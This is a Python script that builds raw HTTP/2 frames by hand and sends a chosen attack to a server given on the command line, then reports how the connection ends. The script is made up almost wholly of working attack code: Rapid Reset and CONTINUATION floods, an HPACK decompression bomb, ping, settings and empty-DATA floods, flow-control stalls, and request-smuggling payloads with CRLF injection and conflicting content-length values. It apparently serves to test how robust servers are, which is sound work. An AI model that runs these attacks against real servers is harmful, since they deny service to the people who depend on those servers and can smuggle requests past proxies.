"""Attacks on HTTP/2, made by hand: frames are bytes, field blocks are hpack's. Prints what became of the connection:
`goaway CODE`, `closed`, or `alive` if it still answers a ping, and before it `reset CODE` or `status N` for the last stream.
"""
import socket
import struct
import sys

import hpack

address, kind = sys.argv[1], sys.argv[2]
host, port = address.rsplit(":", 1)
stream = socket.create_connection((host, int(port)), 20)
encoder, decoder = hpack.Encoder(), hpack.Decoder()
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags, number, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", number) + body


def get(path="/", extra=(), method=b"GET", authority=b"a.test"):
    head = [(b":method", method), (b":scheme", b"http"), (b":authority", authority), (b":path", path.encode())]
    return encoder.encode(head + list(extra))


def send(*frames):
    stream.sendall(b"".join(frames))


def outcome():
    """Reads until a ping of ours comes back, or the end."""
    said, buffer = [], b""
    try:
        send(frame(PING, 0, 0, b"finished"))
        while True:
            while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
                size = int.from_bytes(buffer[:3], "big")
                kind, flags, body = buffer[3], buffer[4], buffer[9 : 9 + size]
                buffer = buffer[9 + size :]
                if kind == HEADERS:
                    fields = dict((n if isinstance(n, bytes) else n.encode(), v) for n, v in decoder.decode(body, raw=True))
                    said.append("status " + fields[b":status"].decode())
                elif kind == RESET:
                    said.append(f"reset {int.from_bytes(body, 'big')}")
                elif kind == GOAWAY and int.from_bytes(body[4:8], "big") != 0:
                    return said + [f"goaway {int.from_bytes(body[4:8], 'big')}"]
                elif kind == SETTINGS and not flags & ACK:
                    send(frame(SETTINGS, ACK, 0))
                elif kind == PING and flags & ACK and body == b"finished":
                    if not wait or any(word.startswith(wait) for word in said):
                        return said + ["alive"]
                    # What it waits for is still to come.
                    send(frame(PING, 0, 0, b"finished"))
            data = stream.recv(65536)
            if not data:
                return said + ["closed"]
            buffer += data
    except (ConnectionResetError, BrokenPipeError):
        return said + ["closed"]


wait = ""
send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", frame(SETTINGS, 0, 0))
try:
    if kind == "rapid_reset":
        for number in range(1, 40001, 2):
            send(frame(HEADERS, END_STREAM | END_HEADERS, number, get("/slow")), frame(RESET, 0, number, b"\0\0\0\x08"))
    elif kind == "continuation":
        send(frame(HEADERS, END_STREAM, 1, get()))
        for _ in range(20000):
            send(frame(CONTINUATION, 0, 1, encoder.encode([(b"x", b"y" * 1000)])))
    elif kind == "empty_continuation":
        send(frame(HEADERS, END_STREAM, 1, get()))
        for _ in range(200000):
            send(frame(CONTINUATION, 0, 1))
    elif kind == "header_list":
        wait = ("status", "reset")
        block = get(extra=[(b"x-%d" % n, b"y" * 1000) for n in range(200)])
        send(frame(HEADERS, END_STREAM, 1, block[:16000]))
        rest = [block[n : n + 16000] for n in range(16000, len(block), 16000)]
        for part in rest[:-1]:
            send(frame(CONTINUATION, 0, 1, part))
        send(frame(CONTINUATION, END_HEADERS, 1, rest[-1]))
    elif kind == "hpack_bomb":
        # One entry of the dynamic table, named again and again: few bytes that become many.
        wait = ("status", "reset")
        send(frame(HEADERS, END_STREAM | END_HEADERS, 1, get(extra=[(b"bomb", b"b" * 3900)]) + b"\xbe" * 12000))
    elif kind == "pings":
        for _ in range(200000):
            send(frame(PING, 0, 0, b"flooding"))
    elif kind == "settings":
        for _ in range(100000):
            send(frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff"))
    elif kind == "empty_data":
        send(frame(HEADERS, END_HEADERS, 1, get("/slow", method=b"POST")))
        for _ in range(200000):
            send(frame(DATA, 0, 1))
    elif kind == "zero_window":
        # Asks for much and takes nothing.
        send(frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0"))
        for number in range(1, 200, 2):
            send(frame(HEADERS, END_STREAM | END_HEADERS, number, get("/big")))
        wait = "reset"
    elif kind == "too_many_streams":
        wait = "reset"
        for number in range(1, 1001, 2):
            send(frame(HEADERS, END_STREAM | END_HEADERS, number, get("/slow")))
    elif kind == "window_overflow":
        send(frame(WINDOW, 0, 0, b"\x7f\xff\xff\xff"))
    elif kind == "one_at_a_time":
        wait = ("status", "reset")
        send(frame(HEADERS, END_STREAM | END_HEADERS, 1, get()))
    else:
        # One request that is wrong in some way; a smuggler's tools.
        wait = ("status", "reset")
        bad = {
            "connection_field": get(extra=[(b"connection", b"close")]),
            "transfer_encoding": get(extra=[(b"transfer-encoding", b"chunked")], method=b"POST"),
            "upper_case": get(extra=[(b"X-Upper", b"1")]),
            "line_break_in_value": get(extra=[(b"x", b"y\r\nx-injected: 1")]),
            "line_break_in_name": get(extra=[(b"x: y\r\nx-injected", b"1")]),
            "line_break_in_path": get("/ HTTP/1.1\r\nx-injected: 1\r\n\r\nGET /x"),
            "space_in_path": get("/a b"),
            "two_hosts": get(extra=[(b"host", b"other.test")]),
            "two_lengths": get(extra=[(b"content-length", b"0"), (b"content-length", b"5")]),
            "userinfo": get(authority=b"a.test@other.test"),
            "pseudo_behind": encoder.encode([(b":method", b"GET"), (b":scheme", b"http"), (b"x", b"y"), (b":path", b"/")]),
            "no_path": encoder.encode([(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"a.test")]),
            "no_authority": encoder.encode([(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/")]),
            "two_paths": get(extra=[]) + encoder.encode([(b":path", b"/x")]),
            "connect": encoder.encode([(b":method", b"CONNECT"), (b":authority", b"a.test:80")]),
            "trace": get(method=b"TRACE"),
            "te": get(extra=[(b"te", b"gzip")]),
        }
        if kind == "length_too_small":
            send(frame(HEADERS, END_HEADERS, 1, get(extra=[(b"content-length", b"1")], method=b"POST")))
            send(frame(DATA, END_STREAM, 1, b"GET /injected HTTP/1.1\r\n\r\n"))
        elif kind == "length_too_large":
            send(frame(HEADERS, END_HEADERS, 1, get(extra=[(b"content-length", b"100")], method=b"POST")))
            send(frame(DATA, END_STREAM, 1, b"short"))
        else:
            send(frame(HEADERS, END_STREAM | END_HEADERS, 1, bad[kind]))
except (ConnectionResetError, BrokenPipeError):
    pass
print(" ".join(outcome()[-3:]))
